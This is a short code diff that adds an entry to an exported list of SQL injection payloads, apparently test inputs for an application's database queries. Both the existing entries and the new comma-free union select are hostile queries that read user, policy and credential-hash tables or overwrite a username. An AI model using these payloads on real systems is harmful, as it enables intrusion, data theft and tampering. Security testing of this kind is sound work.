@@ -17,6 +17,8 @@ export const kPayloads = [
   '-1 union select User_joinGroupID,User_ID from Zembra_User',
   "x' union select Policy_ParaA,1 from Zembra_Policy where ''='",
   "update Zembra_User set User_user='pwned'",
+  // Without commas, for places where a list is split: an id that brings a name of its own.
+  "1 and 1=0 union select * from (select 'UserTb_Customer' as a) as x cross join (select 'Name] <> '''+User_joinGroupID+''' and [UserTb_Customer].[Name' as b from Zembra_User where User_ID=24) as y,1,5,-1",
   '[Zembra_User].[User_user]',
   '[UserTb_Employee].[Zembra_ID]',
   '[Tarlo_Credential].[Hash],1,2;[x].[y]',
